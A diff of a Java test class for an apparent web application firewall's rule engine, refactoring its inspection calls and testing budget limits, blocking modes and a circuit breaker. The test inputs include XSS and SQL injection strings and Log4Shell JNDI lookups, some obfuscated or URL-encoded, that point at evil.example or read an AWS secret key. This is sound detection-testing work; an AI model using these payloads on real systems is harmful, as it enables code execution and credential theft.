@@ -59,11 +59,11 @@ class RuleEngineTest {
         RequestRecord clean = request("/api/books/search", "192.0.2.1", "QUERY", "q", "O'Brien", "HEADER", "User-Agent",
                 "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0");
         assertThat(engine.screen(clean)).isNull();
-        assertThat(engine.inspect(clean, ALL, true)).isNull();
+        assertThat(engine.inspectRequest(clean)).isNull();
         assertThat(clean.hasDetections()).isFalse();
 
         RequestRecord xss = request("/api/books/search", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
-        Detection found = engine.inspect(xss, ALL, true);
+        Detection found = engine.inspectRequest(xss);
         assertThat(found).isNotNull();
         assertThat(found.ruleId()).isEqualTo("xss-request");
         assertThat(found.attackType()).isEqualTo("xss");
@@ -79,19 +79,19 @@ class RuleEngineTest {
                 "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
                 "${env:AWS_SECRET_ACCESS_KEY}")) {
             RequestRecord record = request("/", "192.0.2.1", "HEADER", "User-Agent", lookup);
-            Detection found = engine.inspect(record, ALL, true);
+            Detection found = engine.inspectRequest(record);
             assertThat(found).as(lookup).isNotNull();
             assertThat(found.ruleId()).isEqualTo("jndi-lookup");
         }
         for (String text : List.of("echo ${HOME}/bin", "${user.name} placeholder", "cost: $5 {approx}", "{{name}}")) {
-            assertThat(engine.inspect(request("/", "192.0.2.1", "QUERY", "q", text), ALL, true)).as(text).isNull();
+            assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", text))).as(text).isNull();
         }
     }
 
     @Test
     void monitorModeAndMonitorRulesRecordWithoutBlocking() {
         RequestRecord xss = request("/", "192.0.2.1", "JSON", "user.bio", "<img src=x onerror=alert(1)>");
-        Detection found = engine("palisade.mode", "monitor").inspect(xss, ALL, true);
+        Detection found = engine("palisade.mode", "monitor").inspectRequest(xss);
         assertThat(found).isNull();
         assertThat(xss.detections()).singleElement().satisfies(d -> {
             assertThat(d.ruleId()).isEqualTo("xss-request");
@@ -99,7 +99,7 @@ class RuleEngineTest {
         });
         // The request-level SQL rule of the built-in pack is monitor-only: the JDBC check blocks.
         RequestRecord sql = request("/", "192.0.2.1", "QUERY", "id", "1 UNION SELECT password FROM users");
-        assertThat(engine().inspect(sql, ALL, true)).isNull();
+        assertThat(engine().inspectRequest(sql)).isNull();
         assertThat(sql.detections()).extracting(Detection::ruleId).containsExactly("sqli-request");
     }
 
@@ -107,8 +107,8 @@ class RuleEngineTest {
     void onlyTheSourcesAskedForAreInspected() {
         RequestRecord form = request("/", "192.0.2.1", "FORM", "text", "<script>alert(1)</script>");
         RuleEngine engine = engine();
-        assertThat(engine.inspect(form, EnumSet.complementOf(EnumSet.of(InputSource.FORM)), true)).isNull();
-        assertThat(engine.inspect(form, EnumSet.of(InputSource.FORM), false)).isNotNull();
+        assertThat(engine.inspectRequest(form)).isNull();
+        assertThat(engine.inspectFormFields(form)).isNotNull();
     }
 
     @Test
@@ -127,13 +127,13 @@ class RuleEngineTest {
         RequestRecord health = request("/health/ready", "203.0.113.77", "QUERY", "x", "<script>alert(1)</script>");
         assertThat(engine.screen(health)).isNull();
         assertThat(health.exempt()).isTrue();
-        assertThat(engine.inspect(health, ALL, true)).isNull();
+        assertThat(engine.inspectRequest(health)).isNull();
         assertThat(health.hasDetections()).isFalse();
 
         // An allowlisted client is never blocked, but what it does is still recorded.
         RequestRecord trusted = request("/api/books", "192.0.2.10", "QUERY", "q", "<script>alert(1)</script>");
         assertThat(engine.screen(trusted)).isNull();
-        assertThat(engine.inspect(trusted, ALL, true)).isNull();
+        assertThat(engine.inspectRequest(trusted)).isNull();
         assertThat(trusted.detections()).singleElement().satisfies(d -> assertThat(d.blocked()).isFalse());
 
         // In monitor mode a denylisted client is recorded, not blocked.
@@ -153,8 +153,8 @@ class RuleEngineTest {
                  "disable": ["xss-request"], "data": {"ip_denylist": ["198.51.100.0/24"]}}""", "test");
         assertThat(engine.rules()).isSameAs(after).isNotSameAs(before);
         assertThat(after.version()).isEqualTo("builtin-2026.11.25+v2");
-        assertThat(engine.inspect(request("/", "192.0.2.1", "QUERY", "drink", "tea"), ALL, true).ruleId()).isEqualTo("no-tea");
-        assertThat(engine.inspect(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>"), ALL, true)).isNull();
+        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "drink", "tea")).ruleId()).isEqualTo("no-tea");
+        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>"))).isNull();
         assertThat(engine.screen(request("/", "198.51.100.4"))).isNotNull();
 
         assertThatThrownBy(() -> engine.apply("{\"format\": \"palisade-rules/1\", \"version\": \"v3\", \"rules\": "
@@ -167,23 +167,58 @@ class RuleEngineTest {
     }
 
     @Test
-    void pastTheBudgetOnlyCriticalRulesRun() {
+    void pastTheBudgetCriticalRulesRunOnEverythingAndTheOthersOnBoundInputs() {
         RuleEngine engine = engine("palisade.budget", "1ms");
         RequestRecord spent = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>", "HEADER", "User-Agent",
                 "sqlmap/1.7");
         spent.addRuleNanos(Duration.ofMillis(2).toNanos()); // the request already used its budget
-        Detection found = engine.inspect(spent, ALL, true);
+        Detection found = engine.inspectRequest(spent);
         assertThat(found).isNotNull();
         assertThat(found.ruleId()).as("the critical scanner rule still runs").isEqualTo("scanner-user-agent");
         assertThat(counters.snapshot()).containsEntry("budget_overruns", 1L);
 
-        RequestRecord xssOnly = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
-        xssOnly.addRuleNanos(Duration.ofMillis(2).toNanos());
-        assertThat(engine.inspect(xssOnly, ALL, true)).as("non-critical rules are skipped: fail open").isNull();
+        // An XSS in an input the resource does not receive: skipped past the budget, and the record says so.
+        RequestRecord unbound = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
+        unbound.addRuleNanos(Duration.ofMillis(2).toNanos());
+        assertThat(engine.inspectRequest(unbound)).isNull();
+        assertThat(unbound.incompleteness()).containsExactly(io.palisade.core.request.Incompleteness.BUDGET);
+
+        // The same XSS in an input the resource method receives: still inspected, still blocked.
+        RequestRecord bound = request("/", "192.0.2.1");
+        bound.addBoundInput(InputSource.QUERY, "q", "<script>alert(1)</script>");
+        bound.addRuleNanos(Duration.ofMillis(2).toNanos());
+        assertThat(engine.inspectRequest(bound)).isNotNull().extracting(Detection::attackType).isEqualTo("xss");
+        assertThat(engine.breaker().isOpen()).as("overruns never open a breaker").isFalse();
     }
 
     @Test
-    void aFaultyRuleIsCountedAndTheRequestProceedsThenTheBreakerDetachesEverything() {
+    void anUnfinishedInspectionBlocksOnlyWhenConfiguredTo() {
+        RuleEngine monitor = engine("palisade.budget", "1ms");
+        RequestRecord spent = request("/", "192.0.2.1", "QUERY", "q", "fine");
+        spent.addRuleNanos(Duration.ofMillis(2).toNanos());
+        assertThat(monitor.inspectRequest(spent)).isNull();
+        assertThat(spent.detections()).isEmpty();
+
+        RuleEngine block = engine("palisade.budget", "1ms", "palisade.budget.exceeded", "block");
+        RequestRecord again = request("/", "192.0.2.1", "QUERY", "q", "fine");
+        again.addRuleNanos(Duration.ofMillis(2).toNanos());
+        Detection found = block.inspectRequest(again);
+        assertThat(found).isNotNull();
+        assertThat(found.ruleId()).isEqualTo(RuleEngine.INSPECTION_INCOMPLETE_RULE);
+        assertThat(found.blocked()).isTrue();
+
+        // Padding past the input bound is an unfinished inspection too.
+        RequestRecord padded = new RequestRecord("r", "GET", "/", "192.0.2.1", new RequestLimits(4, 64, 4, 1024, 0));
+        for (int i = 0; i < 6; i++) {
+            padded.addInput(InputSource.QUERY, "p" + i, "x");
+        }
+        assertThat(block.inspectRequest(padded)).isNotNull();
+        assertThat(engine("palisade.budget.exceeded", "block").inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "ok")))
+                .as("a complete inspection is never blocked for it").isNull();
+    }
+
+    @Test
+    void aFaultyRuleIsCountedAndSkippedOnItsOwnWhileEverythingElseRuns() {
         JdbcHooks jdbc = new JdbcHooks();
         HookTable table = HookTable.builder().jdbc(jdbc).build();
         RuleEngine engine = engine(table, "palisade.budget", "1s"); // faults only, no overruns
@@ -200,18 +235,41 @@ class RuleEngineTest {
         engine.install(new RuleSet("faulty", "test", rules, base.jdbcRules(), IpRanges.NONE, IpRanges.NONE, List.of()));
 
         RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
-        assertThat(engine.inspect(xss, ALL, true)).as("the rules after the faulty one still run").isNotNull();
+        assertThat(engine.inspectRequest(xss)).as("the rules after the faulty one still run").isNotNull();
         assertThat(counters.snapshot()).containsEntry("rule_faults", 1L);
 
+        for (int i = 0; i < 60; i++) {
+            engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "fine"));
+        }
+        assertThat(counters.snapshot()).containsEntry("breaker_trips", 1L);
+        RequestRecord later = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
+        assertThat(engine.inspectRequest(later)).as("only the faulty rule is skipped").isNotNull();
+        assertThat(later.incompleteness()).contains(io.palisade.core.request.Incompleteness.RULE_SKIPPED);
+        assertThat(engine.breaker().isOpen()).as("request-rule faults never detach the SQL check").isFalse();
+        assertThat(jdbc.executeQuery.chain()).isNotNull();
+        assertThat(engine.protectedHookPoints()).isNotEmpty();
+        assertThat(engine.status()).containsEntry("breaker", "closed");
+    }
+
+    @Test
+    void onlyFaultsOfTheSqlCheckItselfDetachIt() {
+        JdbcHooks jdbc = new JdbcHooks();
+        HookTable table = HookTable.builder().jdbc(jdbc).build();
+        RuleEngine engine = engine(table);
+        // A throwing callback on a JDBC hook point stands for a bug in the SQL check.
+        table.install(io.palisade.core.hook.CallbackSet.builder().add(jdbc.executeQuery,
+                io.palisade.core.hook.Callback.builder("broken").expects(String.class).prolog(call -> {
+                    throw new IllegalStateException("bug in the SQL check");
+                }).build()).build());
         for (int i = 0; i < 60 && !engine.breaker().isOpen(); i++) {
-            engine.inspect(request("/", "192.0.2.1", "QUERY", "q", "fine"), ALL, true);
+            jdbc.executeQuery.chain().enter(jdbc.executeQuery,
+                    io.palisade.core.hook.Arguments.of(new Object[] {"SELECT 1"}));
         }
         assertThat(engine.breaker().isOpen()).isTrue();
-        assertThat(jdbc.executeQuery.chain()).as("every protection detached").isNull();
-        assertThat(engine.protectedHookPoints()).isEmpty();
-        assertThat(engine.inspect(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>"), ALL, true)).isNull();
+        assertThat(engine.protectedHookPoints()).as("the SQL check is detached for the backoff").isEmpty();
         assertThat(counters.snapshot()).containsEntry("breaker_trips", 1L);
-        assertThat(engine.status()).containsEntry("breaker", "open");
+        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>")))
+                .as("request rules go on").isNotNull();
     }
 
     @Test
@@ -267,7 +325,7 @@ class RuleEngineTest {
                 try {
                     while (!stop.get()) {
                         RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", "<svg onload=alert(1)>");
-                        Detection found = engine.inspect(xss, ALL, true);
+                        Detection found = engine.inspectRequest(xss);
                         if (found == null || !found.blocked()) {
                             unprotected.incrementAndGet();
                         }
